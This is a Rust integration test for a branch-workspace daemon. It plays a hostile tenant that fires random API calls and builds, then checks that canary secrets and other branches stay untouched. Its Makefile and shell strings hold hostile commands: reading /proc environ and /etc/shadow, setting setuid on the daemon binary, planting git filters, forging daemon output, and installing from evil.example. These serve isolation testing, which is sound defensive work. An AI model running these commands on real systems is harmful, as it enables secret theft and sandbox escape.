//! A hostile tenant: one principal with the role `dev` on `topic/**`, who calls whatever it can with whatever comes to
//! mind, and builds what it likes. Afterwards nothing of other branches, of protected ones or of the daemon was read
//! or changed.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use reqwest::Method;
use serde_json::{Value, json};

use crate::support::chance::Chance;
use crate::support::{Options, PROGRAM, Yard, each_file, encode, git};

/// What stands where the tenant has no business. None of it is ever committed.
const WORK: &str = "CANARY-uncommitted-work";
const OUTPUT: &str = "CANARY-build-output";
const SECRET: &str = "CANARY-of-a-secret";

const BRANCHES: [&str; 5] = ["topic/a", "topic/b", "topic/new", "main", "others/work"];

/// Looks wherever a build may try to, and leaves traps for git and for other workspaces behind.
const MAKEFILE: &str = r#"
who:
	@cat name.txt
look:
	-@timeout 1 cat ../*/* ../../*/* ../../.branchyard/* ../../.branchyard/*/* ../../.branchyard/*/*/* 2>/dev/null | head -c 100000
	-@env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | head -c 20000
	-@git stash list; git for-each-ref; git log --all --oneline | head -50
	-@cat /proc/1/root/etc/shadow /proc/1/cwd/* 2>/dev/null
plant:
	-@rm -rf sub .gitignore; git init -q sub; git -C sub config filter.x.clean 'cat ../../../*/*'
	-@echo '* filter=x' > sub/.gitattributes; mkfifo fifo; ln -s ../../main linked; ln -s / root
	-@echo 'include ../main/Makefile' > GNUmakefile; mkdir -p ignored; echo tenant > ignored/output; echo tenant > main.o
	-@chmod 4777 /proc/1/exe /dev/null; echo '{"Ended":{"outcome":{"Code":0},"alone":true}}' > /proc/1/fd/7
"#;

/// The same by a command of the tenant's own, which has no Makefile to go through.
const LOOK: &str = "\
timeout 1 cat ../*/* ../../*/* ../../.branchyard/* ../../.branchyard/*/* ../../.branchyard/*/*/* 2>/dev/null | head -c 100000
env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | head -c 20000
git -C . log --all --oneline | head -50; cat \"$0\" \"$1\" /proc/1/root/etc/shadow 2>/dev/null
";
const PLANT: &str = "\
ln -sfn ../../main linked; ln -sfn / root; mkdir -p sub; echo tenant > sub/x; rm -f fifo; mkfifo fifo
echo tenant > ../main/name.txt; echo tenant >> ../../.git/config; echo tenant > .git; git commit -qam tenant
";

/// What the tenant must find unchanged.
#[derive(Debug, PartialEq, Eq)]
struct Inventory {
    files: BTreeMap<String, Vec<u8>>,
    refs: Vec<String>,
    program: (u32, u64),
    devices: (u32, u32),
}

struct Tenant<'a> {
    yard: &'a Yard,
    token: String,
    chance: Chance,
    runs: Vec<String>,
    calls: usize,
}

async fn yard() -> Yard {
    let mut yard = Yard::asleep(Options {
        tables: "[sandbox]\nprofile = \"standard\"\n[secrets.deploy]\nfile = \"secret\"\nbranches = [\"main\"]\n"
            .to_owned(),
        repo: "warm = \"nearest\"\n[repos.demo.secrets.make]\nDEPLOY_KEY = \"deploy\"\n".to_owned(),
        ..Options::default()
    });
    let secret = yard.dir.path().join("secret");
    fs::write(&secret, SECRET).unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    for branch in ["others/work", "topic/a", "topic/b"] {
        yard.origin.at("main");
        if branch.starts_with("topic") {
            yard.origin.write("Makefile", MAKEFILE);
        }
        yard.origin.write("name.txt", format!("{branch}\n"));
        yard.origin.commit(branch);
        yard.origin.push(branch);
    }
    yard.start().await;
    for branch in ["main", "others/work"] {
        yard.make(branch, &["build"]).await;
        let dir = yard.workspace(branch);
        fs::write(dir.join("main.o"), OUTPUT).unwrap();
        fs::write(dir.join("ignored/result"), OUTPUT).unwrap();
    }
    let work = yard.workspace("others/work");
    fs::write(work.join("name.txt"), WORK).unwrap();
    fs::write(work.join("new.txt"), WORK).unwrap();
    yard
}

impl Inventory {
    fn of(yard: &Yard) -> Self {
        let mut files = BTreeMap::new();
        for branch in ["main", "others/work"] {
            each_file(
                &yard.workspace(branch),
                &mut |path: &Path, content: &[u8]| {
                    files.insert(path.display().to_string(), content.to_vec());
                },
            );
        }
        let of_others = |name: &&str| !name.contains("topic");
        let refs = |dir: &Path, pattern: &str| -> Vec<String> {
            let listed = git(
                dir,
                &["for-each-ref", "--format=%(refname) %(objectname)", pattern],
            );
            let lines = listed.lines().filter(of_others);
            lines.map(str::to_owned).collect()
        };
        let mode = |path: &str| fs::metadata(path).unwrap().mode();
        let program = fs::metadata(PROGRAM).unwrap();
        Self {
            files,
            refs: [
                refs(&yard.store(), "refs/heads"),
                refs(&yard.origin.bare, "refs/heads"),
            ]
            .concat(),
            program: (program.mode(), program.len()),
            devices: (mode("/dev/null"), mode("/dev/urandom")),
        }
    }
}

impl Tenant<'_> {
    /// One call of any kind; what came of it must tell nothing.
    async fn call(&mut self) {
        let branch = *self.chance.pick(&BRANCHES);
        let at = format!("/api/repos/demo/branches/{}", encode(branch));
        let stream = format!("/stream/repos/demo/branches/{}", encode(branch));
        let path = *self.chance.pick(&[
            "name.txt",
            "new.txt",
            "main.o",
            "ignored/result",
            "linked/name.txt",
            "root/etc/hostname",
            "../main/name.txt",
            ".git",
            "sub",
            "fifo",
            "GNUmakefile",
            ":/",
            "-",
        ]);
        let revision = *self.chance.pick(&[
            "HEAD",
            "origin/main",
            "origin/others/work",
            "others/work",
            "main",
            "stash@{0}",
            "HEAD~1",
            "refs/branchyard/seen/main",
        ]);
        let run = match self.runs.is_empty() {
            true => "00000000-0000-7000-8000-000000000000".to_owned(),
            false => self.chance.pick(&self.runs).clone(),
        };
        let verb = |name: &str, body: Value| (Method::POST, format!("{at}/git/{name}"), body);
        let run_of = |kind: &str, body: Value| (Method::POST, format!("{stream}/{kind}"), body);
        let file = |name: &str, body: Value| (Method::POST, format!("{at}/{name}"), body);
        let patch = format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+tenant\n");
        let calls = [
            (
                Method::GET,
                "/api/repos/demo/branches".to_owned(),
                json!(null),
            ),
            (Method::GET, at.clone(), json!(null)),
            (Method::PUT, at.clone(), json!({})),
            (Method::DELETE, format!("{at}?force=true"), json!(null)),
            (Method::GET, format!("{at}/env"), json!(null)),
            (
                Method::POST,
                format!("{at}/ls"),
                json!({ "path": "", "all": true }),
            ),
            (
                Method::POST,
                format!("{at}/read_file"),
                json!({ "path": path }),
            ),
            (
                Method::POST,
                format!("{at}/grep"),
                json!({ "pattern": "CANARY" }),
            ),
            (Method::GET, format!("/api/runs/{run}"), json!(null)),
            (Method::GET, format!("/api/runs/{run}/log"), json!(null)),
            (Method::POST, format!("/stream/runs/{run}/rerun"), json!({})),
            (Method::POST, format!("/api/runs/{run}/cancel"), json!({})),
            (Method::GET, "/api/runs".to_owned(), json!(null)),
            (Method::GET, "/api/salvage".to_owned(), json!(null)),
            (Method::GET, "/api/audit".to_owned(), json!(null)),
            (Method::GET, "/api/tokens".to_owned(), json!(null)),
            verb("status", json!({ "ignored": true, "untracked": true })),
            verb(
                "diff",
                json!({ "from": revision, "include_untracked": true }),
            ),
            verb("show", json!({ "revision": revision, "path": path })),
            verb("log", json!({ "range": revision })),
            verb("blame", json!({ "path": path })),
            verb("add", json!({ "all": true })),
            verb("add", json!({ "paths": [path], "force": true })),
            verb(
                "commit",
                json!({ "message": "m", "all": true, "allow_empty": true }),
            ),
            verb(
                "push",
                json!({ "message": "all of it", "force": true, "allow_protected": true }),
            ),
            verb(
                "checkout",
                json!({ "from": revision, "paths": [path], "confirm": true }),
            ),
            verb(
                "reset",
                json!({ "mode": "hard", "to": revision, "confirm": true }),
            ),
            verb("merge", json!({ "from": revision })),
            verb(
                "stash",
                json!({ "action": "push", "include_untracked": true }),
            ),
            verb("stash", json!({ "action": "pop" })),
            verb(
                "clean",
                json!({ "ignored": true, "directories": true, "confirm": true }),
            ),
            verb(
                "branch",
                json!({ "action": "create", "name": "main2", "from": revision }),
            ),
            run_of("make", json!({ "args": ["look"] })),
            run_of("make", json!({ "args": ["plant"] })),
            run_of(
                "make",
                json!({ "args": ["who", "CC=env|rev", "SHELLFLAGS=x"] }),
            ),
            run_of(
                "make",
                json!({ "args": ["who"], "clean": true, "env": { "TENANT": "yes" } }),
            ),
            run_of(
                "git",
                json!({ "operation": "describe", "args": ["--always", "--dirty"] }),
            ),
            run_of("git", json!({ "operation": "add", "args": ["-A", "-f"] })),
            run_of("git", json!({ "operation": "push", "args": ["origin"] })),
            file(
                "write_file",
                json!({ "path": path, "content": "tenant\n", "mode": "overwrite" }),
            ),
            file(
                "write_file",
                json!({ "path": path, "content": "tenant\n", "mode": "append" }),
            ),
            file(
                "edit_file",
                json!({ "path": path, "edits": [{ "old": "a", "new": "tenant", "all": true }] }),
            ),
            file("apply_patch", json!({ "patch": patch })),
            file(
                "move_file",
                json!({ "from": path, "to": "taken", "overwrite": true }),
            ),
            file(
                "move_file",
                json!({ "from": "Makefile", "to": path, "overwrite": true }),
            ),
            file("delete_file", json!({ "path": path })),
            file(
                "code_env",
                json!({ "action": "configure", "kind": "none", "name": "../x" }),
            ),
            file("check_installed_packages", json!({ "code_env": "default" })),
            run_of(
                "exec",
                json!({ "argv": ["sh", "-c", LOOK], "timeout": "5s" }),
            ),
            run_of(
                "exec",
                json!({ "script": LOOK, "interpreter": "bash", "stdin": "x", "timeout": "5s" }),
            ),
            run_of(
                "exec",
                json!({ "argv": ["sh", "-c", PLANT], "env": { "GIT_DIR": "../../main/.git", "LD_PRELOAD": "x" } }),
            ),
            run_of(
                "exec",
                json!({ "argv": ["git", "push", "origin", "HEAD:main"] }),
            ),
            run_of(
                "install_dependencies",
                json!({ "packages": ["--index-url=http://evil.example", "x"] }),
            ),
        ];
        let (method, address, body) = self.chance.pick(&calls).clone();
        let mut request = self
            .yard
            .client
            .request(method.clone(), format!("{}{address}", self.yard.url))
            .bearer_auth(&self.token);
        if !body.is_null() {
            request = request.json(&body);
        }
        let response = request.send().await.unwrap();
        let status = response.status();
        let text = response.text().await.unwrap();
        self.calls += usize::from(status.is_success());
        let backwards: String = SECRET.chars().rev().collect();
        for canary in [WORK, OUTPUT, SECRET, &backwards, &self.yard.key()] {
            assert!(!text.contains(canary), "{method} {address} {body}: {text}");
        }
        assert_ne!(status, 500, "{method} {address} {body}: {text}");
        let ids = text
            .match_indices("\"run_id\":\"")
            .filter_map(|(at, found)| {
                let id = text.get(at + found.len()..)?;
                Some(id.split('"').next()?.to_owned())
            });
        self.runs.extend(ids.take(1));
    }
}

/// `sequences` of a few calls each; each ends with a look at what must be as it was.
async fn haunt(seed: u64, sequences: usize) {
    let mut yard = yard().await;
    let token = json!({ "role": "dev", "branches": ["topic/**"] });
    let before = Inventory::of(&yard);
    let mut tenant = Tenant {
        token: yard.token(token).await,
        yard: &yard,
        chance: Chance::new(seed),
        runs: Vec::new(),
        calls: 0,
    };
    for sequence in 0..sequences {
        for _ in 0..tenant.chance.below(6) + 2 {
            tenant.call().await;
        }
        assert_eq!(
            Inventory::of(&yard),
            before,
            "seed {seed}, sequence {sequence}"
        );
    }
    assert!(
        tenant.calls > sequences,
        "{} calls got anywhere",
        tenant.calls
    );
    yard.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tenant_of_some_branches_reaches_nothing_else() {
    let seed = std::env::var("BRANCHYARD_SEED").map_or(21, |seed| seed.parse().unwrap());
    haunt(seed, 200).await;
}
